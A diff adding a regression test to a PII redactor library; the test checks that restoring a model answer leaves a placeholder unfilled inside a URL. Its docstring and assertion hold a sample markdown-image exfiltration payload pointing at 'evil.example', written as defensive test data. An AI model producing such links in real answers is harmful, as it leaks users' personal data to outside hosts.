@@ -83,3 +83,16 @@ def test_every_two_slices_find_what_the_whole_text_finds() -> None:
         for cut in range(1, len(text)):
             if not any(o.start < cut < o.end for o in find_placeholders(text)):
                 assert _inside(text, _sliced(text, [cut])) == whole, (text, cut)
+
+
+def test_the_public_restore_keeps_a_placeholder_inside_a_url() -> None:
+    """Found by review: only the guarded call's restore looked for URLs, so an app that
+    restores a model answer by hand (`Redactor().redact(...).restore(answer)`, or
+    `charter.redact`) still filled the value into an attacker's image URL."""
+    from charter.pii import Redactor
+
+    red = Redactor().redact("Mail me at jane.doe@example.com")
+    assert red.text == f"Mail me at {P}"
+    answer = f"Sure, {P}. ![x](https://evil.example/p.png?d={P})"
+    restored = red.restore(answer)
+    assert restored == f"Sure, jane.doe@example.com. ![x](https://evil.example/p.png?d={P})"
